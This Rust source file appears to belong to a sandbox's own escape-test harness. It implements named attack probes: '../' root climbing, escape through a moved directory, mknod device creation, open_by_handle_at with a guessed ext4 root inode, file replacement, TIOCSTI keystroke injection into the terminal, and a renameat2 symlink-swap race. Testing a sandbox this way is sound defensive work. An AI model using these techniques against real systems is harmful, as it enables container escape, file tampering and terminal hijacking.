//! Files and devices that are not the sandbox's.

use std::ffi::CString;
use std::fs::{self, OpenOptions};
use std::io::{self, Read as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::{OpenOptionsExt as _, symlink};
use std::path::Path;

use crate::raw::Argument::{Bytes, Number, Text};
use crate::raw::call;
use crate::{Attack, Tried, argument, failed};

pub(crate) const ATTACKS: &[(&str, Attack)] = &[
    ("read", read),
    ("write", write),
    ("append", append),
    ("list", list),
    ("climb", climb),
    ("mknod", mknod),
    ("handle", handle),
    ("handle-root", handle_root),
    ("replace", replace),
    ("remove", remove),
    ("make-folder", make_folder),
    ("chown", chown),
    ("tiocsti", tiocsti),
    ("tioclinux", tioclinux),
    ("swap", swap),
];

/// PATH: some bytes of it.
fn read(arguments: &[String]) -> Tried {
    let path = argument(arguments, 0, "a path")?;
    let mut file = OpenOptions::new().read(true).custom_flags(libc::O_NONBLOCK).open(path)?;
    let mut bytes = [0; 256];
    let length = file.read(&mut bytes)?;
    Ok(format!("{:?}", String::from_utf8_lossy(&bytes[..length])))
}

/// PATH[,TEXT]
fn write(arguments: &[String]) -> Tried {
    let path = argument(arguments, 0, "a path")?;
    let text = arguments.get(1).map_or("attack", String::as_str);
    let mut file = OpenOptions::new().write(true).custom_flags(libc::O_NONBLOCK).open(path)?;
    file.write_all(text.as_bytes())?;
    Ok(format!("wrote {path}"))
}

fn append(arguments: &[String]) -> Tried {
    let path = argument(arguments, 0, "a path")?;
    OpenOptions::new().append(true).create(true).open(path)?.write_all(b"attack")?;
    Ok(format!("wrote {path}"))
}

fn list(arguments: &[String]) -> Tried {
    let names: io::Result<Vec<String>> = fs::read_dir(argument(arguments, 0, "a path")?)?
        .map(|entry| entry.map(|entry| entry.file_name().to_string_lossy().into_owned()))
        .collect();
    Ok(names?.join(" "))
}

/// PATH: reads it from above every root that `..` can reach, also through descriptors of folders that were moved away.
fn climb(arguments: &[String]) -> Tried {
    let path = argument(arguments, 0, "a path")?.trim_start_matches('/');
    let up = "../".repeat(64);
    for start in ["/", "/proc/self/cwd/", "/proc/1/root/", "/proc/self/root/", "/dev/", "/run/chiton/", "/usr/"] {
        if let Ok(text) = fs::read_to_string(format!("{start}{up}{path}")) {
            return Ok(format!("{start}: {text:?}"));
        }
    }
    // A folder that leaves the root while it is open would have its parents outside of it.
    let folder = format!("/tmp/climb-{}", std::process::id());
    fs::create_dir_all(format!("{folder}/a/b"))?;
    let inner = fs::File::open(format!("{folder}/a/b"))?;
    fs::rename(format!("{folder}/a/b"), format!("{folder}/b"))?;
    fs::remove_dir_all(&folder)?;
    let text = fs::read_to_string(format!("/proc/self/fd/{}/{up}{path}", inner.as_raw_fd()))?;
    Ok(format!("a moved folder: {text:?}"))
}

/// KIND,MAJOR,MINOR[,FOLDER]: makes a device and opens it.
fn mknod(arguments: &[String]) -> Tried {
    let mode = match argument(arguments, 0, "b or c")? {
        "b" => libc::S_IFBLK,
        _ => libc::S_IFCHR,
    };
    let number = |index| argument(arguments, index, "a number")?.parse::<u32>().map_err(io::Error::other);
    let device = libc::makedev(number(1)?, number(2)?);
    let folder = arguments.get(3).map_or("/tmp", String::as_str);
    let path = format!("{folder}/device-{}", std::process::id());
    let name = CString::new(path.clone()).map_err(io::Error::other)?;
    let device = Number(device.cast_signed());
    call(libc::SYS_mknodat, [Number(libc::AT_FDCWD.into()), Text(&name), Number((mode | 0o600).into()), device])?;
    let opened = OpenOptions::new().read(true).custom_flags(libc::O_NONBLOCK).open(&path);
    fs::remove_file(&path)?;
    match opened {
        // The device's own answer, to whoever got as far: there is none of this number now, or it is being taken down.
        Err(error) if error.raw_os_error() == Some(libc::ENXIO) => Ok("answered".to_owned()),
        other => other.map(|_| "opened".to_owned()),
    }
}

/// PATH: a file by its handle, from a descriptor of the same file system.
fn handle(arguments: &[String]) -> Tried {
    let path = CString::new(argument(arguments, 0, "a path")?).map_err(io::Error::other)?;
    let mut buffer = [0_u8; 136];
    buffer[..4].copy_from_slice(&128_u32.to_ne_bytes());
    let mut mount = [0_u8; 8];
    call(
        libc::SYS_name_to_handle_at,
        [Number(libc::AT_FDCWD.into()), Text(&path), Bytes(&mut buffer), Bytes(&mut mount), Number(0)],
    )?;
    open_handle(&path, &mut buffer)
}

/// PATH: the root of the file system that a path is on, by a handle that is guessed: ext4's root is inode 2.
fn handle_root(arguments: &[String]) -> Tried {
    let path = CString::new(argument(arguments, 0, "a path")?).map_err(io::Error::other)?;
    // struct file_handle: 8 bytes of FILEID_INO32_GEN with inode 2 and generation 0.
    let mut buffer = [0_u8; 136];
    buffer[0] = 8;
    buffer[4] = 1;
    buffer[8] = 2;
    open_handle(&path, &mut buffer)
}

fn open_handle(path: &CString, buffer: &mut [u8]) -> Tried {
    let folder = fs::File::open(path.to_str().map_err(io::Error::other)?)?;
    let arguments =
        [Number(folder.as_raw_fd().into()), Bytes(buffer), Number(i64::from(libc::O_RDONLY | libc::O_NONBLOCK))];
    call(libc::SYS_open_by_handle_at, arguments).map(|descriptor| format!("descriptor {descriptor}"))
}

/// PATH: puts a file of the attacker's in its place.
fn replace(arguments: &[String]) -> Tried {
    let path = argument(arguments, 0, "a path")?;
    let own = format!("/tmp/replacement-{}", std::process::id());
    fs::write(&own, "attack")?;
    match fs::rename(&own, path) {
        // Another file system: what is there has to go first.
        Err(error) if error.raw_os_error() == Some(libc::EXDEV) => {
            fs::remove_file(path)?;
            fs::write(path, "attack")?;
        }
        other => other?,
    }
    Ok(format!("replaced {path}"))
}

fn remove(arguments: &[String]) -> Tried {
    fs::remove_file(argument(arguments, 0, "a path")?)?;
    Ok("removed".to_owned())
}

fn make_folder(arguments: &[String]) -> Tried {
    fs::create_dir(argument(arguments, 0, "a path")?)?;
    Ok("made".to_owned())
}

/// PATH,USER
fn chown(arguments: &[String]) -> Tried {
    let user = argument(arguments, 1, "a user id")?.parse().map_err(io::Error::other)?;
    std::os::unix::fs::chown(argument(arguments, 0, "a path")?, Some(user), Some(user))?;
    Ok("given away".to_owned())
}

/// TEXT: types it into the terminal that this process was started on, for whoever reads there next.
fn tiocsti(arguments: &[String]) -> Tried {
    let text = arguments.first().map_or("attack", String::as_str);
    for byte in text.bytes() {
        let mut byte = [byte];
        let request = i64::try_from(libc::TIOCSTI).map_err(io::Error::other)?;
        call(libc::SYS_ioctl, [Number(0), Number(request), Bytes(&mut byte)])?;
    }
    Ok("typed".to_owned())
}

fn tioclinux(_: &[String]) -> Tried {
    // TIOCL_SETSEL of the console's selection, which can be pasted as input.
    let mut request = [2_u8; 16];
    call(libc::SYS_ioctl, [Number(0), Number(0x541c), Bytes(&mut request)])?;
    Ok("selected".to_owned())
}

/// NAME,TARGET[,TURNS]: NAME is a folder and a link to TARGET in turn, exchanged in one step, until killed or so often.
fn swap(arguments: &[String]) -> Tried {
    let (name, target) = (argument(arguments, 0, "a name")?, argument(arguments, 1, "a target")?);
    let turns = arguments.get(2).map_or(Ok(u64::MAX), |turns| turns.parse().map_err(io::Error::other))?;
    let link = format!("{name}.link");
    fs::create_dir_all(name)?;
    if !Path::new(&link).is_symlink() {
        symlink(target, &link)?;
    }
    let (from, to) = (CString::new(name).map_err(io::Error::other)?, CString::new(link).map_err(io::Error::other)?);
    let here = || Number(libc::AT_FDCWD.into());
    let mut turned = 0_u64;
    while turned < turns {
        let exchange = Number(libc::RENAME_EXCHANGE.into());
        call(libc::SYS_renameat2, [here(), Text(&from), here(), Text(&to), exchange])?;
        turned += 1;
    }
    if turned == 0 { Err(failed("no turn")) } else { Ok(format!("{turned} turns")) }
}
